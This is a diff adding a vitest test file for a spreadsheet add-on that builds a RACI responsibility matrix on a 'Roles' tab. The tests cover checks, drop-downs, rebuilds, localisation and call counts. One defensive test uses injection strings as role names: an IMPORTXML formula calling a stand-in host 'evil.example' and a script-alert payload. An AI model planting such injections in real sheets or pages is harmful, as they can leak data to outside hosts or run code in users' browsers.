@@ -1,0 +1,236 @@
+/**
+ * Building the Roles tab on the emulator: the real server action, the real
+ * custom functions evaluating in the cells, and what a rebuild keeps.
+ */
+import { afterEach, describe, expect, it } from 'vitest';
+import { DEFAULT_ROLES, DIRECTIONS, defaultRaciMatrix, formatRaciCell } from '../../src/core/raci';
+import { createEmulator, type Emulator } from '../../src/emulator';
+import { buildResponsibilityMatrix } from '../../src/server/actions/team-actions';
+import type { TeamMember } from '../../src/shared/team';
+import { defaultTeamSettings, type TeamSettings } from '../../src/shared/team-settings';
+
+let uninstall: (() => void) | undefined;
+afterEach(() => {
+  uninstall?.();
+  uninstall = undefined;
+});
+
+function emulatorWithGlobals(locale = 'en_US'): Emulator {
+  const emulator = createEmulator({ owner: 'head@example.com', locale });
+  uninstall = emulator.installGlobals();
+  return emulator;
+}
+
+function person(id: string, name: string, roleId: string, extra: Partial<TeamMember> = {}): TeamMember {
+  return { id, name, email: `${id}@example.com`, roleId, monthlyCost: 200_000, employment: 'staff', ...extra };
+}
+
+function teamWith(overrides: Partial<TeamSettings> = {}): TeamSettings {
+  return { ...defaultTeamSettings('en'), ...overrides };
+}
+
+function tab(emulator: Emulator) {
+  return emulator.snapshot('Roles');
+}
+
+/** The matrix block (rows 2–13, columns from B) as the sheet shows it. */
+function matrixOf(emulator: Emulator, columns: number, rows = DIRECTIONS.length): unknown[][] {
+  return tab(emulator).values.slice(1, 1 + rows).map((row) => row.slice(1, 1 + columns));
+}
+
+function sheet(emulator: Emulator) {
+  const found = emulator.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Roles');
+  if (!found) throw new Error('no Roles tab');
+  return found;
+}
+
+describe('building the Roles tab', () => {
+  it('writes the twelve directions × four roles, pre-filled from the role descriptions, and every check evaluates to OK', () => {
+    const emulator = emulatorWithGlobals();
+    const result = buildResponsibilityMatrix(teamWith());
+    expect(result.message).toBe('Roles tab built: 12 directions × 4 columns, pre-filled from the role descriptions.');
+
+    const snapshot = tab(emulator);
+    expect(snapshot.values[0]?.slice(0, 6)).toEqual(['Direction', ...DEFAULT_ROLES.map((role) => role.name.en), 'Check']);
+    expect(snapshot.values.slice(1, 13).map((row) => row[0])).toEqual(DIRECTIONS.map((d) => d.name.en));
+    expect(matrixOf(emulator, 4)).toEqual(defaultRaciMatrix().map((row) => row.map(formatRaciCell)));
+    // One RACI_CHECK spilling down the Check column, one ROLE_LOAD spilling along the load row.
+    expect(snapshot.formulas[1]?.[5]).toBe('=RACI_CHECK(B2:E13, B1:E1)');
+    expect(snapshot.values.slice(1, 13).map((row) => row[5])).toEqual(new Array(12).fill('OK'));
+    expect(snapshot.values[13]?.slice(0, 5)).toEqual(['Load (R · A)', 'R 2 · A 11', 'R 3 · A 1', 'R 4 · A 0', 'R 3 · A 0']);
+    expect(snapshot.errors.flat().filter((error) => error !== null)).toEqual([]);
+  });
+
+  it('puts a drop-down on the matrix that allows other text, so the checks can name a bad cell', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith());
+    const validation = tab(emulator).validations[1]?.[1];
+    expect(validation).toMatchObject({ criteriaType: 'VALUE_IN_LIST', criteriaValues: [['R', 'A', 'C', 'I', 'R/A'], true], allowInvalid: true });
+    expect(tab(emulator).validations[13]?.[1]).toBeNull();
+    expect(tab(emulator).validations[1]?.[5]).toBeNull();
+  });
+
+  it('flags faults in words as the team edits cells, and reads lower case and "R/A"-style cells', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith());
+    const roles = sheet(emulator);
+    roles.getRange('B2:E2').setValues([['r', 'a', '', '']]); // Strategy: fine, typed in lower case
+    roles.getRange('D8').setValue('A'); // PR: the PR manager now holds a second A, and no one is R
+    roles.getRange('C4').setValue('A / R'); // Content marketing: the internet marketer answers and does
+    const checks = tab(emulator).values.slice(1, 13).map((row) => row[5]);
+    expect(checks[0]).toBe('OK');
+    expect(checks[2]).toBe('OK');
+    expect(checks[6]).toBe('2 are accountable (A): Head of marketing, PR manager — keep exactly one; no one is responsible (R)');
+    roles.getRange('C10').setValue('X');
+    expect(emulator.cellError('Roles', 'F2')?.message).toMatch(/RACI_CHECK: .*"X"/);
+  });
+
+  it('flags an overloaded role in the load row, at the limit the team chose', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith({ maxResponsible: 3 }));
+    const load = tab(emulator).values[13]?.slice(1, 5);
+    expect(load).toEqual(['R 2 · A 11', 'R 3 · A 1', 'R 4 · A 0 — overloaded (limit 3)', 'R 3 · A 0']);
+    expect(tab(emulator).formulas[13]?.[1]).toBe('=ROLE_LOAD(B2:E13, $B$18)');
+  });
+
+  it('checks the department size once the head count and people are known', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith());
+    const staffing = () => tab(emulator).values[18]?.[1];
+    expect(staffing()).toBe("Enter the company's head count and the department's people in the sidebar (Team & roles)");
+    buildResponsibilityMatrix(teamWith({ companyHeadcount: 120, people: [person('anna', 'Anna', 'head'), person('ivan', 'Ivan', 'internet-marketer')] }));
+    expect(staffing()).toMatch(/^2 people in the department for a company of 120 employees/);
+    buildResponsibilityMatrix(
+      teamWith({ companyHeadcount: 120, people: [person('anna', 'Anna', 'head'), person('ivan', 'Ivan', 'internet-marketer'), person('vera', 'Vera', 'pr-manager')] }),
+    );
+    expect(staffing()).toBe('OK');
+  });
+
+  it('protects only its computed cells, with a warning, and never piles protections up', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith());
+    buildResponsibilityMatrix(teamWith());
+    const protections = tab(emulator).protections;
+    expect(protections.map((p) => [p.range, p.warningOnly])).toEqual([
+      ['Roles!F1:F13', true],
+      ['Roles!A14:F14', true],
+      ['Roles!B16:B19', true],
+    ]);
+    expect(protections.every((p) => p.description.startsWith('Marketing KPI:'))).toBe(true);
+    expect(emulator.spreadsheetSnapshot().namedRanges).toContainEqual({ name: 'RACI_Matrix', range: 'Roles!B2:E13' });
+  });
+
+  it('writes the direction names in the template language and Russian checks in a Russian spreadsheet', () => {
+    const emulator = emulatorWithGlobals('ru_RU');
+    buildResponsibilityMatrix(defaultTeamSettings('ru'));
+    const snapshot = emulator.snapshot('Роли');
+    expect(snapshot.values[0]?.[0]).toBe('Направление');
+    expect(snapshot.values[1]?.[0]).toBe('Стратегия');
+    expect(snapshot.values[1]?.[5]).toBe('ОК');
+  });
+});
+
+describe('rebuilding the Roles tab', () => {
+  it('keeps every letter a user set when a role is added and another renamed', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith());
+    const roles = sheet(emulator);
+    roles.getRange('E6').setValue('C'); // SMM × content engineer: was C, stays C
+    roles.getRange('D9').setValue('r'); // Mobile × PR manager: typed in lower case
+    roles.getRange('C3').setValue(''); // Analytics × internet marketer: cleared on purpose
+
+    const team = teamWith();
+    team.roles[2] = { id: 'pr-manager', name: 'Communications lead', contractor: false };
+    team.roles.push({ id: 'designer', name: 'Designer', contractor: true });
+    const result = buildResponsibilityMatrix(team);
+    expect(result.message).toBe('Roles tab updated: 12 directions × 5 columns; every letter you set is kept.');
+
+    const snapshot = tab(emulator);
+    expect(snapshot.values[0]?.slice(1, 7)).toEqual([...DEFAULT_ROLES.slice(0, 2).map((r) => r.name.en), 'Communications lead', DEFAULT_ROLES[3]?.name.en, 'Designer', 'Check']);
+    expect(snapshot.values[8]?.[3]).toBe('r');
+    expect(snapshot.values[2]?.[2]).toBe('');
+    expect(snapshot.values[5]?.[4]).toBe('C');
+    expect(snapshot.values.slice(1, 13).map((row) => row[5])).toEqual(new Array(12).fill(''));
+    expect(snapshot.formulas[1]?.[6]).toBe('=RACI_CHECK(B2:F13, B1:F1)');
+    // Analytics now has no R: the user cleared it, and the check says so.
+    expect(snapshot.values[2]?.[6]).toBe('No one is responsible (R)');
+    expect(snapshot.validations[1]?.[5]).not.toBeNull();
+    expect(snapshot.validations[1]?.[6]).toBeNull();
+  });
+
+  it('keeps a removed role whose column holds letters, flagged, and says so', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith());
+    const team = teamWith();
+    team.roles = team.roles.filter((role) => role.id !== 'content-engineer');
+    const result = buildResponsibilityMatrix(team);
+    expect(result.details).toContain(
+      'Kept with their letters, though no longer in the team: Content engineer (contractor). They still count; clear a column to remove it.',
+    );
+    const snapshot = tab(emulator);
+    expect(snapshot.values[0]?.[4]).toBe('Content engineer (contractor)');
+    expect(snapshot.notes[0]?.[4]).toMatch(/Not in the team any more/);
+    expect(snapshot.values[3]?.[4]).toBe('R');
+  });
+
+  it('keeps a comment column a user added to the right, moving it out of the way of a new role', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith());
+    sheet(emulator).getRange('H1:H3').setValues([['Comment'], [''], ['ask Ivan']]);
+    const team = teamWith();
+    team.roles.push({ id: 'designer', name: 'Designer', contractor: true });
+    buildResponsibilityMatrix(team);
+    const snapshot = tab(emulator);
+    expect(snapshot.values[0]?.[8]).toBe('Comment');
+    expect(snapshot.values[2]?.[8]).toBe('ask Ivan');
+  });
+
+  it('switches the columns to people, each starting from their role\'s letters as the sheet holds them', () => {
+    const emulator = emulatorWithGlobals();
+    buildResponsibilityMatrix(teamWith());
+    sheet(emulator).getRange('D12').setValue('R'); // Web chat × PR manager
+    const team = teamWith({
+      matrixColumns: 'people',
+      people: [person('anna', 'Anna', 'head'), person('ivan', 'Ivan', 'internet-marketer'), person('vera', 'Vera', 'pr-manager'), person('oleg', 'Oleg', 'content-engineer', { employment: 'contractor' })],
+    });
+    const result = buildResponsibilityMatrix(team);
+    expect(result.details[0]).toBe('Columns are now people: each person\'s column starts from their role\'s letters.');
+    const snapshot = tab(emulator);
+    expect(snapshot.values[0]?.slice(1, 6)).toEqual(['Anna', 'Ivan', 'Vera', 'Oleg', 'Check']);
+    expect(snapshot.values[11]?.[3]).toBe('R');
+    expect(snapshot.values.slice(1, 13).map((row) => row[5])).toEqual(new Array(12).fill('OK'));
+  });
+
+  it('writes hostile names as text, never as formulas or markup', () => {
+    const emulator = emulatorWithGlobals();
+    const team = teamWith();
+    team.roles[0] = { id: 'head', name: '=IMPORTXML("http://evil.example", "//a")', contractor: false };
+    team.roles[1] = { id: 'internet-marketer', name: '<script>alert(1)</script>', contractor: false };
+    buildResponsibilityMatrix(team);
+    const snapshot = tab(emulator);
+    expect(snapshot.formulas[0]?.[1]).toBe('');
+    expect(snapshot.values[0]?.[1]).toBe('=IMPORTXML("http://evil.example", "//a")');
+    expect(snapshot.values[0]?.[2]).toBe('<script>alert(1)</script>');
+    // And a rebuild still recognises the column by that name.
+    sheet(emulator).getRange('B5').setValue('C');
+    buildResponsibilityMatrix(team);
+    expect(tab(emulator).values[4]?.[1]).toBe('C');
+  });
+
+  it('makes as many service calls for 3 roles as for 12 people', () => {
+    const count = (team: TeamSettings) => {
+      const emulator = emulatorWithGlobals();
+      buildResponsibilityMatrix(team);
+      emulator.calls.reset();
+      buildResponsibilityMatrix(team);
+      const total = emulator.calls.total;
+      uninstall?.();
+      uninstall = undefined;
+      return total;
+    };
+    const few = teamWith();
+    few.roles = few.roles.slice(0, 3);
+    const people = Array.from({ length: 12 }, (_, i) => person(`p${i}`, `Person ${i}`, DEFAULT_ROLES[i % 4]?.id ?? 'head'));
+    expect(count(few)).toBe(count(teamWith({ matrixColumns: 'people', people })));
+  });
+});
